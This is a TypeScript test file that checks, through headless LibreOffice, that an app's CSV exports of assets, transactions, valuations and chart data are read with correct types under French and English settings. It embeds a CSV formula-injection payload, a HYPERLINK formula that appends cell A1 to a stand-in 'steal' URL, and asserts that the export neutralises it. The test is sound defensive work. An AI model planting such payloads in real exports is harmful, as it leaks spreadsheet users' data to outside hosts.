/**
 * Proof that a spreadsheet reads our CSV exports right: LibreOffice (headless, as
 * scripts/ensure-test-tools.sh installs it) opens each file with the CSV import options of a
 * French and an English user and saves it as flat ODS XML, where every cell says its type and
 * value. Each number must be a number of exactly our value, each date a date, each name text —
 * a would-be formula included (a header too), with formula evaluation on (the import's worst
 * case). And the plain layout in French settings, whose `-12.5` LibreOffice reads as text.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { Ledger } from '../../../tests/factories/ledger';
import { loadSqlite, testDatabase } from '../../../tests/helpers/sqlite';
import { readBackupFile } from '$lib/backup/backup-file';
import { importBackup } from '$lib/backup/import-json';
import { bundledMigrations } from '$lib/db/migrations';
import { listAssets } from './assets';
import { assetsCsv, chartCsv, transactionsCsv, valuationsCsv } from './csv-exports';
import { csvFormat, type CsvLayout, type CsvTable } from './csv-format';
import { writeCsv } from './csv-write';
import { loadHistory } from './history';
import { normalDecimal } from './money';
import { listTransactions } from './transactions';
import { valuationSeries } from './valuations';

const TODAY = '2026-11-21';
const NOW = new Date(`${TODAY}T18:00:00.000Z`);
const HOSTILE = '=HYPERLINK("https://example.org/steal?"&A1,"Click me")';
/** A category named like a formula: a column header of the chart's CSV by category. */
const FORMULA_CATEGORY = '=1+1';
/**
 * LibreOffice's first start (a new profile) can take a minute on a busy 2-core machine, beyond
 * vitest's 30 s: each test has this long, soffice itself 30 s less, so its own timeout is said.
 */
const SOFFICE_TIMEOUT = 180_000;

const work = mkdtempSync(join(tmpdir(), 'strata-csv-lo-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

/**
 * The original's edge backup, and an account someone named like a formula, overdrawn, in a
 * category named like a formula: the asset list, the transactions, the loan's valuations and the
 * chart's monthly numbers by category.
 */
async function tables(): Promise<Record<string, CsvTable>> {
	const { engine, db } = await testDatabase();
	const bytes = readFileSync(
		new URL('../../../tests/fixtures/strata-1.2.12/strata-edge-backup.json', import.meta.url)
	);
	const sqlite3 = await loadSqlite();
	const backup = readBackupFile(sqlite3, new Uint8Array(bytes), await bundledMigrations(), NOW);
	importBackup(engine, backup.data, 'replace', { now: NOW });
	const ledger = new Ledger(engine);
	const hostile = ledger.asset({ name: HOSTILE, type: 'CHECKING_ACCOUNT' });
	ledger.valuation(hostile, '2026-02-28', '-12.5');
	ledger.categorize(hostile, ledger.category(FORMULA_CATEGORY));
	const [loan] = await listAssets(db, { search: 'Loan' }, TODAY);
	const history = await loadHistory(db, {
		range: 'ALL',
		by: 'category',
		today: TODAY,
		maxPoints: Number.MAX_SAFE_INTEGER
	});
	return {
		assets: assetsCsv(await listAssets(db, { showDisposed: true }, TODAY)),
		transactions: transactionsCsv(
			(await listTransactions(db, { pageSize: Number.MAX_SAFE_INTEGER })).rows
		),
		valuations: valuationsCsv(await valuationSeries(db, loan!.id), loan!.currency),
		chart: chartCsv(history, 'EUR', 'monthly')
	};
}

/**
 * LibreOffice's CSV filter options: separator, quote (34), charset (76: UTF-8), first line,
 * column formats (none: detect), language, quoted field as text, detect special numbers, three
 * export-only tokens, sheet, evaluate formulas.
 */
const filter = (separator: string, language: number) =>
	`Text - txt - csv (StarCalc):${separator.charCodeAt(0)},34,76,1,,${language},false,false,false,false,false,1,true`;

/** Converts the files in one soffice run (each run costs seconds) and returns each sheet's XML. */
function convert(files: Record<string, string>, separator: string, language: number) {
	const names = Object.keys(files);
	for (const name of names) writeFileSync(join(work, `${name}.csv`), files[name]!, 'utf8');
	try {
		execFileSync('soffice', ['--version'], { stdio: 'pipe' });
	} catch {
		throw new Error(
			'LibreOffice is missing: run `bash scripts/ensure-test-tools.sh` to install it.'
		);
	}
	execFileSync(
		'soffice',
		[
			`-env:UserInstallation=file://${join(work, 'profile')}`,
			'--headless',
			`--infilter=${filter(separator, language)}`,
			'--convert-to',
			'fods',
			'--outdir',
			work,
			...names.map((n) => join(work, `${n}.csv`))
		],
		{ stdio: 'pipe', timeout: SOFFICE_TIMEOUT - 30_000 }
	);
	return Object.fromEntries(names.map((n) => [n, readFileSync(join(work, `${n}.fods`), 'utf8')]));
}

interface Cell {
	type: string;
	value: string;
	text: string;
}

const unescape = (xml: string) =>
	xml
		.replace(/&lt;/g, '<')
		.replace(/&gt;/g, '>')
		.replace(/&quot;/g, '"')
		.replace(/&apos;/g, "'")
		.replace(/&amp;/g, '&');

/** The sheet's cells, row by row, as LibreOffice typed them. */
function cellsOf(fods: string): Cell[][] {
	const table = fods.slice(fods.indexOf('<table:table '), fods.indexOf('</table:table>'));
	return [...table.matchAll(/<table:table-row[^>]*>([\s\S]*?)<\/table:table-row>/g)].map(
		([, row]) =>
			[
				...row!.matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)
			].flatMap(([, attributes, content]) => {
				const attr = (name: string) =>
					attributes!.match(new RegExp(`${name}="([^"]*)"`))?.[1] ?? '';
				const repeated = Number(attr('table:number-columns-repeated') || 1);
				const paragraphs = [...(content ?? '').matchAll(/<text:p>([\s\S]*?)<\/text:p>/g)];
				const cell: Cell = {
					type: attr('office:value-type'),
					value: unescape(attr('office:value') || attr('office:date-value')),
					text: unescape(paragraphs.map((p) => p[1]!.replace(/<[^>]+>/g, '')).join('\n'))
				};
				return Array.from({ length: repeated }, () => cell);
			})
	);
}

/** Text as a spreadsheet shows our guarded cell: a would-be formula with its leading `'`. */
const shown = (text: string) => (/^[=+\-@]/.test(text) ? `'${text}` : text);

/** Every cell of `table` as LibreOffice read it: numbers, dates and text, each of its kind. */
function expectReadRight(fods: string, table: CsvTable) {
	const [header, ...rows] = cellsOf(fods);
	expect(header!.slice(0, table.columns.length).map((c) => [c.type, c.text])).toEqual(
		table.columns.map((c) => ['string', shown(c.header)])
	);
	expect(rows).toHaveLength(table.rows.length);
	table.rows.forEach((row, r) => {
		table.columns.forEach((column, c) => {
			const cell = rows[r]![c] ?? { type: '', value: '', text: '' };
			const value = row[c] ?? null;
			const where = `row ${r + 2}, ${column.header}: ${value}`;
			if (value === null || value === '') {
				expect(cell.type, where).toBe('');
			} else if (column.kind === 'decimal') {
				expect(cell.type, where).toBe('float');
				// Our decimal, exactly, up to the 15 significant digits a spreadsheet keeps (as
				// Excel does, LibreOffice rounds 12345678901234568 to 12345678901234600).
				const digits = normalDecimal(value).replace(/^-?0*|\./g, '').length;
				if (digits <= 15) expect(cell.value, where).toBe(normalDecimal(value));
				else expect(Number(cell.value), where).toBe(Number(Number(value).toPrecision(15)));
			} else if (column.kind === 'day') {
				expect([cell.type, cell.value], where).toEqual(['date', value]);
			} else {
				expect(cell.type, where).toBe('string');
				expect(cell.text, where).toBe(shown(value));
			}
		});
	});
}

describe('LibreOffice reads our CSV exports right', async () => {
	const exported = await tables();
	const write = (layout: CsvLayout, locale: string) =>
		Object.fromEntries(
			Object.entries(exported).map(([name, table]) => [
				`${name}-${layout}-${locale}`,
				writeCsv(table, csvFormat(layout, locale))
			])
		);

	/** Every export of a layout and locale, checked as LibreOffice read it. */
	const expectAllReadRight = (sheets: Record<string, string>, layout: string) => {
		for (const [name, table] of Object.entries(exported))
			expectReadRight(sheets[`${name}-${layout}`]!, table);
	};

	it(
		'in French settings (fr-FR, ; between columns, 1234,56), the spreadsheet layout',
		{ timeout: SOFFICE_TIMEOUT },
		() => {
			const sheets = convert(write('spreadsheet', 'fr-FR'), ';', 1036);
			expectAllReadRight(sheets, 'spreadsheet-fr-FR');
			expect(sheets['assets-spreadsheet-fr-FR']).toContain('office:value="-12.5"');
			expect(exported.chart!.columns.map((c) => c.header)).toContain(FORMULA_CATEGORY);
		}
	);

	it(
		'in English settings (en-US, , between columns, 1234.56), both layouts',
		{ timeout: SOFFICE_TIMEOUT },
		() => {
			const sheets = convert(
				{ ...write('spreadsheet', 'en-US'), ...write('plain', 'fr-FR') },
				',',
				1033
			);
			for (const layout of ['spreadsheet-en-US', 'plain-fr-FR']) expectAllReadRight(sheets, layout);
		}
	);

	it(
		'in French settings, the plain layout reads -12.5 as text: why the spreadsheet layout exists',
		{ timeout: SOFFICE_TIMEOUT },
		() => {
			const sheets = convert(
				{ 'assets-plain-in-french': write('plain', 'fr-FR')['assets-plain-fr-FR']! },
				',',
				1036
			);
			const cells = cellsOf(sheets['assets-plain-in-french']!);
			const value = exported.assets!.columns.findIndex((c) => c.header === 'Value');
			const overdrawn = cells.find((row) => row[0]!.text === shown(HOSTILE))!;
			expect(overdrawn[value]).toMatchObject({ type: 'string', text: '-12.5' });
		}
	);
});
